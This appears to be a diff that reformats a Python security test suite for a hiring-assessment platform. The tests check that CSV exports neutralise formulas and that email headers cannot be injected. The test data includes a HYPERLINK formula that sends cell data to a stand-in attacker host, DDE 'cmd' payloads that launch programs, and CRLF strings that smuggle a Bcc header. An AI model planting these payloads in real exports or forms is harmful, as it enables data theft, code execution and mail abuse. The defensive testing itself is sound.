@@ -1,5 +1,6 @@
 """Finding 6 (exports and mail): CSV cells that a spreadsheet would run as formulas are neutralised; text a person
 typed (a name with line breaks) cannot add lines or headers to the platform's emails."""
+
 from __future__ import annotations
 
 import csv
@@ -10,8 +11,14 @@ from email.policy import default as default_policy
 from tests.review import factories as f
 from tests.security.conftest import post_form
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, s, signed_in):
@@ -42,8 +49,11 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, s, signed_i
         from assessment.extensions import session
 
         _, secret = create_token(session(), "ats", ["board:read"], 1)
-    data = app.test_client().get("/api/v1/positions/ml-intern/board",
-                                 headers={"Authorization": f"Bearer {secret}"}).get_json()
+    data = (
+        app.test_client()
+        .get("/api/v1/positions/ml-intern/board", headers={"Authorization": f"Bearer {secret}"})
+        .get_json()
+    )
     assert sorted(r["name"] for r in data["rows"]) == sorted(FORMULAS)
 
 
@@ -74,8 +84,12 @@ def test_a_name_with_line_breaks_cannot_add_lines_or_headers_to_mail(app, settin
     admin = signed_in("admin@staff.org")
     for path in settings.outbox_dir.glob("*.eml"):
         path.unlink()
-    assert post_form(admin, "/admin/positions/ml-intern/invitations",
-                     {"name": INJECTED, "email": "eve2@example.com"}).status_code == 302
+    assert (
+        post_form(
+            admin, "/admin/positions/ml-intern/invitations", {"name": INJECTED, "email": "eve2@example.com"}
+        ).status_code
+        == 302
+    )
     assert post_form(admin, "/admin/reviewers", {"name": INJECTED, "email": "eve3@example.com"}).status_code == 302
     sent = messages(settings.outbox_dir)
     assert len(sent) == 2
@@ -86,8 +100,12 @@ def test_a_name_with_line_breaks_cannot_add_lines_or_headers_to_mail(app, settin
 def test_header_fields_cannot_be_split_into_new_headers():
     from assessment.mail import build_message
 
-    message = build_message("Assessment <no-reply@example.com>", "eve@example.com\r\nBcc: victim@example.net",
-                            "Your application\r\nBcc: victim@example.net", "Hello\n")
+    message = build_message(
+        "Assessment <no-reply@example.com>",
+        "eve@example.com\r\nBcc: victim@example.net",
+        "Your application\r\nBcc: victim@example.net",
+        "Hello\n",
+    )
     raw = bytes(message).decode()
     headers = raw.split("\n\n", 1)[0]
     assert "\nBcc:" not in headers and message["Bcc"] is None
